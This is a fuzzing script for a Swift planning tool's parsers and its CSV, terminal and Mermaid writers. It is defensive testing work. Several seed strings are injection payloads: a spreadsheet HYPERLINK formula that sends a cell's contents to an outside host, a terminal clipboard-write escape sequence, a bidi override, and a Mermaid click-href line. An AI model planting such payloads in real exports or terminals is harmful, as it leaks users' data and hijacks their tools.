#!/usr/bin/env bash
# Fuzzes the loader, scheduler, reports, the CSV, terminal and Mermaid writers, and the date, duration
# and number parsers with libFuzzer
# (address sanitizer on), seeded with every fixture and plan of the repository.
#   scripts/fuzz.sh SECONDS [JOBS]
# Crashes and timeouts are written to fuzz-artifacts/; keep each as a regression fixture.
set -euo pipefail
cd "$(dirname "$0")/.."
seconds=${1:-60}
jobs=${2:-1}
scratch=.build-fuzz
# The target is built as a library (-parse-as-library) whose entry point calls libFuzzer's driver.
swift build -c debug --scratch-path "$scratch" --product plangraph-fuzz \
  -Xswiftc -sanitize=fuzzer,address -Xswiftc -DFUZZING -Xswiftc -parse-as-library -Xswiftc -use-ld=lld >&2
binary="$scratch/debug/plangraph-fuzz"
corpus=fuzz-corpus
mkdir -p "$corpus" fuzz-artifacts
# Seeds: each YAML file as mode 0 and as mode 7 (the loader's fast path against the full loader, as
# YAML), each JSON file as mode 1 and as mode 6 (the same, as JSON), each YAML file converted to JSON as
# mode 6 too, and date and duration texts as modes 2 and 3.
seed() { printf "\\x$(printf %02x "$1")" > "$corpus/seed-$2"; cat "$3" >> "$corpus/seed-$2"; }
n=0
while IFS= read -r -d '' f; do
  n=$((n + 1))
  case "$f" in
    *.json) seed 1 "$n" "$f"; n=$((n + 1)); seed 6 "$n" "$f" ;;
    *)
      seed 0 "$n" "$f"
      n=$((n + 1)); seed 7 "$n" "$f"
      n=$((n + 1))
      printf '\x06' > "$corpus/seed-$n"
      python3 -c 'import json, sys, yaml; print(json.dumps(yaml.safe_load(open(sys.argv[1], encoding="utf-8")), default=str, ensure_ascii=False, indent=1))' \
        "$f" >> "$corpus/seed-$n" 2>/dev/null || rm -f "$corpus/seed-$n"
      ;;
  esac
done < <(find Tests plans -type f \( -name '*.yaml' -o -name '*.json' \) -print0)
for text in 2017-10-20 2017-10 2020 2017-Q4 2018-H1 +2y +18m 2017年10月20日 2017年10月中旬 2017年底 \
  2018年第四季度 2018年上半年 6w 60d 0d 2y 3m 80.5 -0.25; do
  n=$((n + 1)); printf '\x02%s' "$text" > "$corpus/seed-$n"
  n=$((n + 1)); printf '\x03%s' "$text" > "$corpus/seed-$n"
done
# Seeds for the escaping writers: text for the CSV, terminal and diagnostic writers (mode 4), task names,
# one a line, for the Mermaid writer (mode 5).
for text in '=HYPERLINK("http://x/?"&B3,"x")' '-5' $'\e]52;c;SGVsbG8=\a' $'a\u202Eb\r\n\x00' '👩‍👩‍👧❤️中文' \
  $'Section 1 kickoff\nclick t0 href "//evil"\n5% budget cut\n%%{init}%%\n2017-10-01 x\n　title 中文：；＃'; do
  n=$((n + 1)); printf '\x04%s' "$text" > "$corpus/seed-$n"
  n=$((n + 1)); printf '\x05%s' "$text" > "$corpus/seed-$n"
done
echo "fuzzing for $seconds s with $jobs job(s), $(ls "$corpus" | wc -l) inputs in $corpus" >&2
exec "$binary" "$corpus" -max_total_time="$seconds" -timeout=10 -rss_limit_mb=2048 -max_len=65536 \
  -jobs="$jobs" -workers="$jobs" -artifact_prefix=fuzz-artifacts/ -print_final_stats=1
